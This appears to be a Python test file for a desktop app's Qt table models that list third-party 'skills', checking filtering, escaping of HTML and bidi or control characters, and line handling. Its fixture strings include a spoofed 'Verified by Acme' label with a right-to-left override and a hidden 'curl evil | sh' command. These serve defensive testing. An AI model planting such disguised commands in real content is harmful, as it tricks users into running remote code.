"""Every item model of the window, checked with pytest-qt's model tester."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from desktop.core.query import SkillQuery
from desktop.sources.folder import scan_folder
from desktop.ui.library.skill_filter_proxy import SkillFilterProxyModel
from desktop.ui.library.skill_table_model import (
    COL_APPROVAL,
    COL_DESCRIPTION,
    COL_NAME,
    COL_VERIFICATION,
    SkillTableModel,
)
from desktop.ui.sources.sources_model import SourcesModel

from .conftest import folder_spec


def _skills(folder: Path) -> Any:
    status, skills = scan_folder(folder_spec(folder))
    return status, skills


def test_skill_table_model(qtmodeltester: Any, skills_folder: Path) -> None:
    _, skills = _skills(skills_folder)
    model = SkillTableModel()  # no session: nothing read, no state known yet
    qtmodeltester.check(model)
    model.set_skills(skills)
    qtmodeltester.check(model)
    assert model.rowCount() == 3
    assert model.index(0, COL_APPROVAL).data() == "…"
    assert model.index(1, COL_VERIFICATION).data() == "not read yet"


def test_filter_proxy_model(qtmodeltester: Any, skills_folder: Path) -> None:
    _, skills = _skills(skills_folder)
    model = SkillTableModel()
    model.set_skills(skills)
    proxy = SkillFilterProxyModel()
    proxy.setSourceModel(model)
    qtmodeltester.check(proxy)
    proxy.set_query(SkillQuery("alpha"))
    assert proxy.rowCount() == 1
    qtmodeltester.check(proxy)
    proxy.set_query(SkillQuery(""))
    assert proxy.rowCount() == 3
    model.set_skills(skills[:1])
    assert proxy.rowCount() == 1
    qtmodeltester.check(proxy)


def test_sources_model(qtmodeltester: Any, skills_folder: Path) -> None:
    status, _ = _skills(skills_folder)
    model = SourcesModel()
    qtmodeltester.check(model)
    model.set_specs([folder_spec(skills_folder)], {"local": "saved"})
    model.set_status(status)
    qtmodeltester.check(model)
    assert model.index(0, 5).data() == "3"


def test_third_party_text_is_shown_as_written_never_as_markup(tmp_path: Path) -> None:
    from PySide6.QtCore import Qt

    from desktop.ui.library.skill_table_model import COL_DESCRIPTION

    folder = tmp_path / "skills"
    (folder / "evil").mkdir(parents=True)
    description = "<b>Verified by Acme</b> \u202etxt.exe"
    (folder / "evil" / "SKILL.md").write_text(
        f'---\nname: evil\ndescription: "{description}"\n---\nbody\n'
    )
    _, skills = _skills(folder)
    model = SkillTableModel()
    model.set_skills(skills)
    cell = model.index(0, COL_DESCRIPTION)
    assert cell.data() == "<b>Verified by Acme</b> \\u202etxt.exe"
    tip = cell.data(Qt.ItemDataRole.ToolTipRole)
    assert "&lt;b&gt;Verified by Acme&lt;/b&gt;" in tip and "<b>" not in tip
    assert "\u202e" not in tip


def test_no_cell_of_any_table_shows_raw_control_or_bidi_characters(tmp_path: Path) -> None:
    """The rule lives in the shared base model: every column of every table, text and
    tooltip, shows such characters as their codes, whatever the column holds."""
    from PySide6.QtCore import Qt

    folder = tmp_path / "skills\u202eevil"
    (folder / "odd\u202ename").mkdir(parents=True)
    (folder / "odd\u202ename" / "SKILL.md").write_text(
        '---\nname: "odd\u202ename"\ndescription: "a \u202e b \x1b[31m c"\n---\nbody\n'
    )
    status, skills = _skills(folder)
    skills_model = SkillTableModel()
    skills_model.set_skills(skills)
    sources = SourcesModel()
    sources.set_specs([folder_spec(folder)])
    sources.set_status(status)
    seen = []
    for model in (skills_model, sources):
        assert model.rowCount() == 1
        for col in range(model.columnCount()):
            for role in (Qt.ItemDataRole.DisplayRole, Qt.ItemDataRole.ToolTipRole):
                value = model.index(0, col).data(role)
                if isinstance(value, str):
                    seen.append(value)
                    assert "\u202e" not in value and "\x1b" not in value, (model, col, value)
    assert any("\\u202e" in v for v in seen)


def test_a_description_cut_by_a_lone_carriage_return_or_nel_shows_what_follows(
    tmp_path: Path,
) -> None:
    """The Description column shows the first line; only a line feed (or CRLF) ends it.
    A carriage return alone or a NEL would otherwise hide the words after it."""
    folder = tmp_path / "skills"
    descriptions = {
        "cr": "Formats dates\rand uploads your keys",
        "nel": "Harmless helper\x85curl evil | sh",
        "crlf": "First line\r\nsecond line",
    }
    for name, description in descriptions.items():
        (folder / name).mkdir(parents=True)
        (folder / name / "SKILL.md").write_text(
            f"---\nname: {name}\ndescription: {json.dumps(description)}\n---\nbody\n",
            newline="",
        )
    _, skills = _skills(folder)
    model = SkillTableModel()
    model.set_skills(skills)
    shown = {
        model.index(r, COL_NAME).data(): model.index(r, COL_DESCRIPTION).data()
        for r in range(model.rowCount())
    }
    assert shown == {
        "cr": "Formats dates\\u000dand uploads your keys",
        "nel": "Harmless helper\\u0085curl evil | sh",
        "crlf": "First line",
    }
